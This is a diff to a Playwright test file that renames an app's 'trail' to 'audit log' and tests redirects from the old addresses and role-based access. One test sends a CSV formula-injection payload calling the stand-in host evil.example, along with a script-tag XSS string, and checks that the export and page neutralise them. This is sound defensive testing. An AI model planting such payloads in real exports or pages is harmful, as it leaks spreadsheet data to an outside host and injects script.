@@ -145,29 +145,29 @@ test.describe('what a player reports', () => {
   })
 })
 
-test('an export of the trail is noted, and neutralises what a caller put in', async ({
+test('an export of the audit log is noted, and neutralises what a caller put in', async ({
   holdConference,
   request,
 }) => {
   const { conferenceId } = await holdConference()
   const userAgent = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'
   await request.get(`/conferences/${conferenceId}`, { headers: { 'user-agent': userAgent } })
-  const answer = await request.get(`/api/trail/export?target=${conferenceId}`)
+  const answer = await request.get(`/api/audit-log/export?target=${conferenceId}`)
   expect(answer.headers()).toMatchObject({
     'content-type': 'text/csv; charset=utf-8; header=present',
-    'content-disposition': expect.stringMatching(/filename="roomtone-trail-\d{4}-\d\d-\d\d\.csv"/),
+    'content-disposition': expect.stringMatching(/filename="roomtone-audit-log-\d{4}-\d\d-\d\d\.csv"/),
     'cache-control': 'private, no-store',
   })
   const [header, line, ...rest] = (await answer.text()).split('\r\n')
   expect(header).toMatch(/^row,at,action,.*,previous_hash,hash$/)
   expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,`)
   expect(rest).toEqual([''])
-  const page = await (await request.get(`/trail?target=${conferenceId}`)).text()
+  const page = await (await request.get(`/audit-log?target=${conferenceId}`)).text()
   expect(page).toContain('opened conference')
   expect(page).not.toContain('<script>alert(1)</script>')
   expect(
     await db().auditEvent.count({
-      where: { action: 'exported trail', details: { path: ['target'], equals: conferenceId } },
+      where: { action: 'exported audit log', details: { path: ['target'], equals: conferenceId } },
     }),
   ).toBe(1)
 })
@@ -175,20 +175,40 @@ test('an export of the trail is noted, and neutralises what a caller put in', as
 for (const role of ['listener', 'manager'] as const) {
   test.describe(role, () => {
     test.use({ storageState: stateFile(role) })
-    test('may not see or export the trail', async ({ request }) => {
-      const page = await request.get('/trail')
+    test('may not see or export the audit log', async ({ request }) => {
+      const page = await request.get('/audit-log')
       expect(page.status()).toBe(403)
       expect(await page.text()).not.toContain('Source')
-      expect((await request.get('/api/trail/export')).status()).toBe(403)
+      expect((await request.get('/api/audit-log/export')).status()).toBe(403)
+      for (const former of ['/trail', '/api/trail/export'])
+        expect((await request.get(former)).status()).toBe(403)
     })
   })
 }
 
+test('a former address leads to the audit log, with its filter', async ({ page }) => {
+  await page.goto('/trail?action=exported+trail&since=2026-02-03')
+  await expect(page).toHaveURL('/audit-log?action=exported+trail&since=2026-02-03')
+  await expect(page.getByRole('link', { name: 'Remove the filter Action: exported audit log' })).toBeVisible()
+  await expect(page.getByLabel('Action')).toHaveValue('exported audit log')
+  const answer = await page.request.get('/api/trail/export?since=2026-02-03&format=jsonl')
+  expect(answer.status()).toBe(200)
+  expect(answer.url()).toContain('/api/audit-log/export?since=2026-02-03&format=jsonl')
+})
+
 test.describe('a stranger', () => {
   test.use({ storageState: NOBODY })
-  test('may not see, export or report', async ({ request }) => {
-    expect((await request.get('/trail', { maxRedirects: 0 })).status()).toBe(303)
+  test('is sent from a former address to sign in, and then to the audit log', async ({ request }) => {
+    const answer = await request.get('/trail?action=played', { maxRedirects: 0 })
+    expect(answer.status()).toBe(308)
+    expect(answer.headers().location).toBe('/audit-log?action=played')
+    const signIn = await request.get('/trail?action=played')
+    expect(new URL(signIn.url()).searchParams.get('next')).toBe('/audit-log?action=played')
     expect((await request.get('/api/trail/export')).status()).toBe(401)
+  })
+  test('may not see, export or report', async ({ request }) => {
+    expect((await request.get('/audit-log', { maxRedirects: 0 })).status()).toBe(303)
+    expect((await request.get('/api/audit-log/export')).status()).toBe(401)
     const answer = await request.post(`/api/recordings/${randomId('RE')}/listening`, {
       data: { heardSec: 5 },
     })
